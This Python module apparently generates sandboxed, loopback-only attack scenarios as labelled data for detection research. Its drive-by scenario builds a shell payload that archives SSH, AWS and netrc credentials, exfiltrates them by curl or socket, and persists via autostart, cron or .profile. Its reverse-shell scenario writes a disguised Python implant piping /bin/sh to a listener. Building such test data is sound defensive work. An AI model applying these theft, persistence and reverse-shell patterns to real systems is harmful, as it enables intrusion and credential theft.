"""Attack scenario kinds: harmless, loopback-only, confined to the run's sandbox.

The 'remote' attacker (web server hosting the payload, exfiltration sink, reverse-shell
listener) runs outside the trace through ``ctx.start_infra``, as a real remote host
would; the victim's side is what the trace records. Credentials are fake files planted
in the sandbox's HOME.
"""

from __future__ import annotations

from apt_scenarios.common import Context, Plan, q, script

_CREDS = (".ssh/id_rsa", ".aws/credentials", ".netrc")


def driveby(ctx: Context) -> Plan:
    """Drive-by download: fetch, chmod +x, run; steal, archive, exfiltrate, persist."""
    r = ctx.rng
    site = ctx.infra / "site"
    for i in range(r.randint(1, 3)):
        ctx.write(site / f"page{i}.html", "<html><body>\n" + "".join(
            f"<p>{line}</p>\n" for line in ctx.text(r.randint(5, 30)).splitlines())
            + "</body></html>\n")
    lure = r.choice(["flash-update", "codec-pack", "viewer-patch", "font-helper", "sync-agent"])
    pname = f"{lure}-{ctx.token(5)}{r.choice(['.sh', '', '.run'])}"
    drop = r.choice([ctx.home / ".cache", ctx.home / "Downloads", ctx.tmp]) / pname
    stage = ctx.home / ".cache" / f".{ctx.token(6)}"
    arch = r.choice([ctx.tmp, ctx.home / ".cache"]) / f"{ctx.token(8)}.{r.choice(['tgz', 'dat'])}"
    sink_port = ctx.start_infra("sink", "--out", str(ctx.infra / "loot.bin"))
    creds = [ctx.home / c for c in r.sample(_CREDS, r.randint(2, 3))]
    files = [drop, arch, *creds]
    steal = r.choice(["cp", "cat", "tar"])
    if steal == "cp":
        grab = f"mkdir -p {q(stage)}\ncp {' '.join(q(c) for c in creds)} {q(stage)}/\n" \
               f"tar czf {q(arch)} -C {q(stage)} ."
        files += [stage, *(stage / c.name for c in creds)]
    elif steal == "cat":
        grab = f"mkdir -p {q(stage)}\n" + "".join(
            f"cat {q(c)} > {q(stage / c.name)}\n" for c in creds) + \
            f"tar czf {q(arch)} -C {q(stage)} ."
        files += [stage, *(stage / c.name for c in creds)]
    else:
        grab = f"tar czf {q(arch)} -C \"$HOME\" " + " ".join(
            q(str(c.relative_to(ctx.home))) for c in creds)
    if r.random() < 0.5:
        send = (f"python3 -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\", "
                f"{sink_port})); s.sendall(open(sys.argv[1],\"rb\").read()); s.close()' "
                f"{q(arch)}")
    else:
        send = (f"curl -s --max-time 5 --data-binary @{q(arch)} "
                f"http://127.0.0.1:{sink_port}/upload || true")
    name = f"{r.choice(['session', 'tray', 'indexer', 'updater'])}-{ctx.token(4)}"
    kind = r.choice(["autostart", "cron", "profile"])
    if kind == "autostart":
        persist = ctx.home / ".config/autostart" / f"{name}.desktop"
        write = (f"mkdir -p {q(persist.parent)}\nprintf '[Desktop Entry]\\nType=Application\\n"
                 f"Name={name}\\nExec=%s\\n' \"$0\" > {q(persist)}")
    elif kind == "cron":
        persist = ctx.home / ".config/cron" / name
        write = f"mkdir -p {q(persist.parent)}\necho \"*/10 * * * * $0\" > {q(persist)}"
    else:
        persist = ctx.home / ".profile"
        write = f"echo \"($0 >/dev/null 2>&1 &)\" >> {q(persist)}"
    files.append(persist)
    cleanup = f"rm -rf {q(stage)} {q(arch)}" if r.random() < 0.5 else "true"
    ctx.write(site / pname, f"#!/bin/sh\n{grab}\n{send}\n{write}\n{cleanup}\n")
    web_port = ctx.start_infra("serve", "--dir", str(site))
    base = f"http://127.0.0.1:{web_port}"
    steps = [f"mkdir -p {q(drop.parent)}"]
    steps += [f"curl -s -o page{i}.html {base}/page{i}.html && grep -c p page{i}.html > /dev/null"
              for i in range(r.randint(1, 2))]
    steps += [f"curl -s -o {q(drop)} {base}/{pname}", f"chmod +x {q(drop)}", q(drop)]
    steps += r.sample(["ls -la > listing.txt", "wc -l page0.html > /dev/null",
                       "date > /dev/null"], r.randint(0, 2))
    return Plan(script(ctx, steps), attack=True, processes=[str(drop)], markers=[pname],
                files=sorted({str(f) for f in files}),
                netflows=[f"127.0.0.1:{web_port}", f"127.0.0.1:{sink_port}"],
                notes={"steal": steal, "persistence": kind, "payload": str(drop)})


def revshell(ctx: Context) -> Plan:
    """Reverse shell: an implant connects out and runs the listener's commands in sh."""
    r = ctx.rng
    creds = r.sample([ctx.home / c for c in _CREDS], r.randint(1, 2))
    cmds = r.sample(["id", "uname -a", "ls -la $HOME", "pwd", "whoami", "ls /etc"],
                    r.randint(2, 4))
    cmds += [f"cat {c}" for c in creds]
    r.shuffle(cmds)
    cmd_file = ctx.write(ctx.infra / "commands.txt", "\n".join(cmds) + "\n")
    port = ctx.start_infra("c2", "--commands", str(cmd_file), "--out",
                           str(ctx.infra / "transcript.txt"))
    pname = f"{r.choice(['dbus-helper', 'gvfs-sync', 'tracker-agent', 'pulse-update'])}" \
            f"-{ctx.token(5)}.py"
    implant = ctx.home / ".local/share" / r.choice(["gvfs", "tracker", "pulse", "keyrings"]) \
        / pname
    if r.random() < 0.5:  # the classic: the socket becomes /bin/sh's stdin and stdout
        code = (f"import os, socket, subprocess\ns = socket.create_connection(('127.0.0.1', "
                f"{port}))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                "subprocess.call(['/bin/sh'])\n")
    else:  # a command loop, one sh -c per command
        code = (f"import socket, subprocess\ns = socket.create_connection(('127.0.0.1', {port}))"
                "\nf = s.makefile('rb')\nfor line in f:\n    cmd = line.decode().strip()\n"
                "    if cmd == 'exit':\n        break\n"
                "    out = subprocess.run(['/bin/sh', '-c', cmd], capture_output=True).stdout\n"
                "    s.sendall(out or b'\\n')\n")
    words = f"notes-{ctx.token(3)}.txt"
    ctx.write(ctx.work / words, ctx.text(r.randint(50, 300)))
    steps = r.sample([f"sort {words} | uniq -c | sort -rn | head -5 > top.txt",
                      f"wc -w {words} > count.txt", f"grep -c {ctx.word()} {words} > /dev/null"],
                     r.randint(1, 2))
    steps += [f"mkdir -p {q(implant.parent)}",
              f"cat > {q(implant)} <<'EOF'\n{code}EOF",
              f"python3 {q(implant)}" if r.random() < 0.5 else
              f"python3 {q(implant)} > /dev/null 2>&1 &\nIMP=$!\nwait $IMP",
              "ls -la > /dev/null"]
    return Plan(script(ctx, steps), attack=True, processes=[str(implant)], markers=[pname],
                files=sorted({str(implant), *map(str, creds)}),
                netflows=[f"127.0.0.1:{port}"], notes={"commands": cmds})
